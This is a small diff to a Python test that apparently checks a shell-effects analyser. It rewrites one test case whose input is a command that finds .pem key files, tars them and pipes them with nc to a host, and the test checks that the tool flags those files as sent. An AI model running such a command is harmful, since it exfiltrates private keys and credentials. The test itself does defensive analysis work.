@@ -161,7 +161,8 @@ def test_files_that_carry_on_what_was_read_are_named(world: World) -> None:
 
 
 def test_names_that_are_looked_for_stand_for_their_files(world: World) -> None:
-    found = [one for one in world.effects("find . -name '*.pem' | xargs tar cz | nc h 80") if one.kind == "sends"]
+    line = "find . -user dev -name '*.pem' | xargs tar cz | nc h 80"
+    found = [one for one in world.effects(line) if one.kind == "sends"]
     assert ("*.pem", "named") in [(one.target, one.extent) for one in found]
 
 
